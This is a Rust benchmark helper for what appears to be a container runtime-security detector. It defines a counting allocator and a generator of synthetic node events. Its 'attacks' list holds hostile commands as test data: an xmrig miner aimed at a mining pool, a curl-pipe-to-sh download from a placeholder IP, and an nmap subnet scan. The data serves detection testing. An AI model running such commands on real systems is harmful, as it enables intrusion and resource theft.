//! Benchmarks live in `benches/`; run them with `cargo bench -p palisade-bench`. The load generators and memory
//! figures in `src/bin/` share the counting allocator below.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicIsize, Ordering};

use palisade_schemas::NodeEvent;

/// The system allocator, counting the bytes held. A binary that measures memory installs it:
/// `#[global_allocator] static ALLOCATOR: palisade_bench::Counting = palisade_bench::Counting;`
pub struct Counting;

static LIVE: AtomicIsize = AtomicIsize::new(0);

// SAFETY: forwards to the system allocator and only counts.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        LIVE.fetch_add(layout.size() as isize, Ordering::Relaxed);
        // SAFETY: same contract as the caller's.
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        LIVE.fetch_sub(layout.size() as isize, Ordering::Relaxed);
        // SAFETY: same contract as the caller's.
        unsafe { System.dealloc(ptr, layout) }
    }
}

/// Bytes held through `Counting` now.
pub fn live() -> isize {
    LIVE.load(Ordering::Relaxed)
}

/// A realistic node mix of `count` events over `nodes` nodes of `containers` containers each: mostly benign execs
/// (with the pipes a runtime gives them), file opens and connects, with a few attacks (1 %). With one node it is
/// the fixture's node (`node-a`); with more, `node-<n>`.
pub fn node_mix(count: usize, nodes: usize, containers: usize) -> Vec<NodeEvent> {
    let template: NodeEvent =
        serde_json::from_str(include_str!("../../schemas/fixtures/node_event.v1.json")).expect("the fixture reads");
    let benign_execs: [&[&str]; 10] = [
        &["/usr/bin/ls", "-la", "/app"],
        &["/usr/local/bin/python3", "app.py", "--port", "8080"],
        &["/usr/bin/grep", "-q", "ready", "/tmp/status"],
        &["/bin/sh", "-c", "date >> /var/log/app/cron.log"],
        &["/usr/bin/cat", "/etc/hostname"],
        &["/usr/sbin/nginx", "-g", "daemon off;"],
        &["/usr/bin/java", "-jar", "/app/service.jar"],
        &["/usr/bin/node", "server.js"],
        &["/usr/bin/sleep", "5"],
        &["/usr/bin/gzip", "-f", "/var/log/app/app.log.1"],
    ];
    let attacks: [&[&str]; 4] = [
        &["/tmp/xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444"],
        &["/bin/sh", "-c", "curl -s http://203.0.113.5/x.sh | sh"],
        &["/usr/bin/nmap", "-Pn", "10.0.0.0/24"],
        &["/usr/bin/whoami"],
    ];
    let mut events = Vec::new();
    for index in 0..count {
        let mut event = template.clone();
        event.event_id = format!("mix/{index}");
        event.timestamp_ms += index as i64 * 10;
        if nodes > 1 {
            event.node = format!("node-{}", index % nodes);
        }
        let container = index % (nodes * containers).max(1);
        event.container_id = Some(format!("{container:0>64x}"));
        event.net = None;
        (event.pid, event.tgid, event.ppid) = (10_000 + index as i64, 10_000 + index as i64, 1);
        let set_exec = |event: &mut NodeEvent, argv: &[&str]| {
            event.kind = palisade_schemas::NodeEventKind::Exec;
            event.executable = Some(argv[0].to_owned());
            event.argv = argv.iter().map(|a| (*a).to_owned()).collect();
            // As a runtime starts them: stdin /dev/null, stdout and stderr the container's log pipe; every
            // tenth a stage of a shell pipeline (`ps | grep`) on a pipe of its own.
            let log = format!("pipe:[{}]", 1_000_000 + container);
            let stdin = if index % 10 == 3 { format!("pipe:[{}]", 2_000_000 + index) } else { "null".to_owned() };
            event.stdio = vec![stdin, log.clone(), log];
        };
        match index % 100 {
            0 => set_exec(&mut event, attacks[(index / 100) % attacks.len()]),
            1..=69 => set_exec(&mut event, benign_execs[index % benign_execs.len()]),
            70..=89 => {
                event.kind = palisade_schemas::NodeEventKind::FileOpen;
                event.file = Some(palisade_schemas::FileDetail {
                    path: ["/tmp/cache.db", "/etc/passwd", "/var/log/app/app.log"][index % 3].to_owned(),
                    new_path: None,
                    flags: [0o2, 0, 0o2101][index % 3],
                    mode: None,
                    owner_uid: None,
                    owner_gid: None,
                    atime_ns: None,
                    mtime_ns: None,
                });
            }
            _ => {
                event.kind = palisade_schemas::NodeEventKind::NetConnect;
                event.net = Some(palisade_schemas::NetDetail {
                    family: "inet".into(),
                    protocol: "tcp".into(),
                    src_addr: None,
                    src_port: None,
                    dst_addr: Some(format!("10.0.{}.{}", index % 7, index % 250)),
                    dst_port: Some(443),
                    payload_head: None,
                });
            }
        }
        events.push(event);
    }
    events
}
